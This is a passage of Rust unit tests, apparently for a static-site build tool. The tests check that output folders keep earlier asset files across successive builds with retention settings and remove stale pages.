        assert!(target.join("CNAME").exists());
        assert_eq!(former(&target), "{\n  \"assets/a.js\": 36003600\n}\n");
    }

    #[test]
    fn a_folder_whose_entries_are_exchanged_keeps_former_files() {
        let folder = tempfile::tempdir().expect("a folder for the test");
        let target = folder.path().join("build");
        fs::create_dir_all(target.join("cache")).expect("the folder is ours");
        let fixed = || {
            let mut found = Target::find(&target).expect("it is there").with_options(OPTIONS);
            found.exclude(&target.join("cache")).expect("it is there");
            found
        };
        fs::write(target.join(MARKER.file), "ours").expect("the folder is ours");
        for (hours, files) in [(0, A), (1, B), (2, C)] {
            let previous = PreviousOutput::new(fixed()).expect("the folder is ours");
            let output = Output::new(previous).expect("the folder is ours");
            let output = output.with_retention(after_hours(hours));
            write(&output, files);
            let finished = output.finish().expect("the folder is ours");
            finished.published.prepare_next_build().expect("the folder is ours");
        }
        for path in ["assets/a.js", "assets/b.js", "assets/deep/c.js"] {
            assert!(target.join(path).exists(), "{path}");
        }
        assert!(!target.join("old.html").exists());
    }
}
